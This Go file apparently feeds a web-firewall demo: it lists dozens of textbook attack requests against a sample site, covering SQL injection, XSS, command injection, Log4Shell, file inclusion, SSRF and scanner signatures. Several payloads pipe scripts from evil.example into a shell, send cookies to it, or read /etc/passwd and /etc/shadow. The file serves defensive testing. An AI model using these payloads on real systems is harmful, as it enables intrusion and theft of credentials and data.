package demo

// attack is one hostile request. The payloads are textbook forms that every rule set is tested with; the sample site
// runs none of them.
type attack struct {
	family  string
	name    string
	request request
}

// attackerAgents are the faces of the attackers; a scanner that names itself comes with its own header in the table.
var attackerAgents = []string{
	"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.69 Safari/537.36",
	"curl/8.5.0",
}

// attackerOf gives each family its attacker, so that one address stands for one campaign.
func attackerOf(family string) int {
	switch family {
	case "sqli", "xss":
		return 0
	case "rce", "java", "php":
		return 1
	default:
		return 2
	}
}

func with(r request, name, value string) request {
	header := map[string]string{name: value}
	for k, v := range r.header {
		header[k] = v
	}
	r.header = header
	return r
}

func query(target, name, value string) request { return get(target + "?" + form(name, value)) }

func contact(message string) request {
	return post("/contact", typeForm, form("name", "山田", "email", "a@mail.example", "topic", "その他", "message", message))
}

func note(json string) request {
	return post("/api/estimate", typeJSON, `{"kind":"reform","area":10,"place":"藤沢市","note":"`+json+`"}`)
}

var attacks = []attack{
	{"sqli", "union in the query", query("/search", "q", "1' UNION SELECT user,password FROM users-- -")},
	{"sqli", "tautology on the old page", query("/legacy", "id", "1' OR '1'='1")},
	{"sqli", "sleep on the old page", query("/legacy", "id", "1' AND SLEEP(5)-- -")},
	{"sqli", "in a form, inside Japanese", contact("見積りをお願いします。' OR 1=1; DROP TABLE customers;-- よろしくお願いします。")},
	{"sqli", "in JSON", note(`屋根' UNION ALL SELECT NULL,table_name FROM information_schema.tables-- -`)},
	{"sqli", "in a cookie", with(get("/works"), "Cookie", "session=1' UNION SELECT version(),2-- -")},
	{"sqli", "quote probe that the old page betrays", query("/legacy", "id", "7'")},
	{"xss", "script in the query", query("/search", "q", "<script>alert(document.cookie)</script>")},
	{"xss", "event handler in a form, inside Japanese", contact(`資料を送ってください<img src=x onerror=alert(1)>お願いします`)},
	{"xss", "script URL in JSON", note(`<a href=\"javascript:alert(1)\">図面</a>`)},
	{"xss", "svg in the query", query("/search", "q", `"><svg/onload=fetch('//evil.example/'+document.cookie)>`)},
	{"xss", "in the referrer", with(get("/works"), "Referer", "https://evil.example/<script>alert(1)</script>")},
	{"rce", "command in the query", query("/search", "q", ";cat /etc/passwd")},
	{"rce", "command in a form", contact("test | wget http://evil.example/x.sh -O /tmp/x; sh /tmp/x")},
	{"rce", "substitution in JSON", note(`$(curl http://evil.example/a.sh | bash)`)},
	{"rce", "Shellshock", with(get("/works"), "User-Agent", "() { :; }; /bin/bash -c 'cat /etc/passwd'")},
	{"rce", "PowerShell", query("/search", "q", "powershell.exe -EncodedCommand SQBFAFgA")},
	{"lfi", "dots in the query", query("/download", "mb", "../../../../etc/passwd")},
	{"lfi", "encoded dots in the path", get("/static/..%2f..%2f..%2fetc%2fpasswd")},
	{"lfi", "environment file", get("/.env")},
	{"lfi", "repository", get("/.git/config")},
	{"lfi", "system file in JSON", note(`file:///etc/shadow`)},
	{"rfi", "remote file by address", query("/legacy", "id", "http://198.51.100.7/shell.txt?")},
	{"rfi", "remote file by name", query("/legacy", "id", "http://evil.example/c99.txt??")},
	{"php", "code in the query", query("/search", "q", "<?php system($_GET['c']); ?>")},
	{"php", "wrapper", query("/legacy", "id", "php://filter/convert.base64-encode/resource=index.php")},
	{"php", "serialised object", contact(`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`)},
	{"php", "function call in a form", contact("eval(base64_decode('cGhwaW5mbygpOw=='));")},
	{"java", "Log4Shell in a header", with(get("/"), "X-Api-Version", "${jndi:ldap://evil.example/a}")},
	{"java", "Log4Shell in the browser name", with(get("/"), "User-Agent", "${jndi:${lower:l}dap://evil.example/a}")},
	{"java", "Log4Shell in a form, inside Japanese", contact("お世話になります。${jndi:ldap://evil.example/a} 以上です。")},
	{"java", "Struts expression", with(get("/works"), "X-Requested-With", "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}")},
	{"java", "Spring class loader", post("/contact", typeForm, form("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "java.lang.Runtime"))},
	{"scanner", "sqlmap", with(get("/works"), "User-Agent", "sqlmap/1.8.3#stable (https://sqlmap.org)")},
	{"scanner", "Nikto", with(get("/cgi-bin/test.cgi"), "User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)")},
	{"scanner", "masscan", with(get("/"), "User-Agent", "masscan/1.3")},
	{"ssrf", "cloud metadata", query("/legacy", "id", "http://169.254.169.254/latest/meta-data/")},
	{"nodejs", "child process in JSON", note(`require('child_process').exec('id')`)},
	{"protocol", "header injection", query("/search", "q", "a\r\nSet-Cookie: admin=1\r\n\r\n<html>")},
}
